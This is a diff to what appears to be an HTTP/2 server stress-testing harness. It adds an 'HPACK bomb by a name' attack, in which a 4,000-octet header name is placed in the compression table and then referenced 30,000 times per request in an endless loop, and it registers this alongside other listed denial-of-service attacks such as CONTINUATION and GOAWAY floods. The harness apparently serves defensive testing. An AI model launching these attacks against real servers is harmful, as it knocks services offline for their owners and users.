@@ -87,6 +87,13 @@ def bomb(c):
         yield headers(c.stream(), block("/hit/1000") + hpack.indexed(62) * 4000, True, 16384)
 
 
+def named_bomb(c):
+    """A name of 4,000 octets, by reference 30,000 times a request."""
+    yield headers(c.stream(), block("/hit/1000") + hpack.literal("x" * 4000, "b", hpack.ADDED), True, 16384)
+    while True:
+        yield headers(c.stream(), block("/hit/1000") + b"\x0f\x2f\x00" * 30_000, True, 16384)
+
+
 def heads(c):
     while True:
         yield headers(c.stream(), block("/hit/1000", "HEAD"))
@@ -168,6 +175,7 @@ ATTACKS = [
     Attack("CONTINUATION, an octet", continued(b"\x20"), 20_000, ANY),
     Attack("CONTINUATION, empty", continued(b""), 20_000, ANY),
     Attack("HPACK bomb", bomb, 500, ANY, at_once=1),
+    Attack("HPACK bomb by a name", named_bomb, 100, ANY, at_once=1),
     Attack("heads unread", heads, 200_000, (CALM, None), reads=False, served=100, wait=0.1),
     Attack("DATA of an octet", on_open(lambda at: frame(DATA, 0, at, b"x")), 60_000, (CALM, None), served=1),
     Attack("GOAWAY", again(frame(GOAWAY, 0, 0, bytes(8))), 20_000, (CALM, None)),
